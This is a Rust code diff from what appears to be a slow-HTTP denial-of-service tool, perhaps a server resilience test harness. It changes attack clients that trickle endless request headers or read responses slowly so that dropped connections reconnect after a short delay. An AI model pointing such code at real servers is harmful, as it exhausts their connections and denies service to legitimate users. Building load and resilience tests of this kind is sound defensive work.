@@ -19,6 +19,13 @@ const ENDLESS_HEAD: &[u8] = b"GET / HTTP/1.0\r\nX: a";
 /// How often a client does what it does.
 const STEP: Duration = Duration::from_millis(100);
 
+/// How often an attack looks which of its clients have something to do.
+const TICK: Duration = Duration::from_millis(20);
+
+/// How soon a client that has lost its seat comes back. Thousands of them would otherwise take all
+/// of the machine's time for connecting.
+const RETURN_INTERVAL: Duration = Duration::from_millis(250);
+
 /// Bytes that an attacker's kernel takes for it.
 const RECEIVE_BUFFER_BYTES: usize = 8 * 1024;
 
@@ -39,7 +46,8 @@ pub struct Attack {
 }
 
 struct Attacker {
-    stream: TcpStream,
+    /// `None` while it is about to come back.
+    stream: Option<TcpStream>,
     request: Vec<u8>,
     sent: usize,
     next_step: Instant,
@@ -86,14 +94,20 @@ fn attack(
     let mut attackers: Vec<_> =
         sources.iter().map(|&source| Attacker::new(server, source, manner)).collect();
     while !is_over.load(Ordering::Relaxed) {
-        // A reset or an end is acted upon at once, by those who read nothing too.
-        let sockets = attackers.iter().map(|it| PollFd::new(&it.stream, PollFlags::RDHUP));
-        let mut sockets: Vec<_> = sockets.collect();
-        let tick = Timespec { tv_sec: 0, tv_nsec: 20_000_000 };
-        rustix::event::poll(&mut sockets, Some(&tick)).unwrap();
+        thread::sleep(TICK);
+        // A reset or an end is noticed by those who read nothing, too.
+        let connected = attackers.iter().filter_map(|it| it.stream.as_ref());
+        let mut sockets: Vec<_> = connected.map(|it| PollFd::new(it, PollFlags::RDHUP)).collect();
+        rustix::event::poll(&mut sockets, Some(&Timespec::default())).unwrap();
         let ended: Vec<_> = sockets.iter().map(|it| !it.revents().is_empty()).collect();
-        for ((attacker, ended), &source) in attackers.iter_mut().zip(ended).zip(sources) {
-            if ended || !attacker.step(manner) {
+        let mut ended = ended.into_iter();
+        for (attacker, &source) in attackers.iter_mut().zip(sources) {
+            let is_here = attacker.stream.is_some();
+            let has_ended = is_here && ended.next().is_some_and(|ended| ended);
+            if is_here && (has_ended || !attacker.step(manner)) {
+                attacker.stream = None;
+                attacker.next_step = Instant::now() + RETURN_INTERVAL;
+            } else if !is_here && Instant::now() >= attacker.next_step {
                 *attacker = Attacker::new(server, source, manner);
                 returns.fetch_add(1, Ordering::Relaxed);
             }
@@ -116,7 +130,7 @@ impl Attacker {
             Manner::Sends => ENDLESS_HEAD.to_vec(),
             Manner::Takes { path, .. } => format!("GET {path} HTTP/1.0\r\n\r\n").into_bytes(),
         };
-        let stream = TcpStream::from(socket);
+        let stream = Some(TcpStream::from(socket));
         Self { stream, request, sent: 0, next_step: Instant::now(), steps: 0 }
     }
 
@@ -142,7 +156,8 @@ impl Attacker {
     }
 
     fn send(&mut self, bytes: std::ops::Range<usize>) -> bool {
-        match self.stream.write(&self.request[bytes]) {
+        let Some(stream) = &mut self.stream else { return false };
+        match stream.write(&self.request[bytes]) {
             Ok(length) => self.sent += length,
             Err(error) => return is_early(&error),
         }
@@ -151,7 +166,8 @@ impl Attacker {
 
     fn take(&mut self, bytes: usize) -> bool {
         let mut buffer = vec![0; bytes];
-        match self.stream.read(&mut buffer) {
+        let Some(stream) = &mut self.stream else { return false };
+        match stream.read(&mut buffer) {
             Ok(length) => length > 0 || bytes == 0,
             Err(error) => is_early(&error),
         }
